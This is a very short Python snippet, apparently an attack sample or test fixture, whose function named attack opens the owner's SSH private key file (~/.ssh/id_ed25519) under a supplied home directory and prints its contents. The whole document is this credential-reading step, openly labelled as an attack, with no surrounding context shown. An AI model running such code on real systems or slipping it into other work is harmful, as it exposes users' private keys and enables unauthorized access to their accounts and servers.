"""Reads the owner's private key."""


def attack(told: dict[str, str]) -> None:
    print(open(told["home"] + "/.ssh/id_ed25519").read())
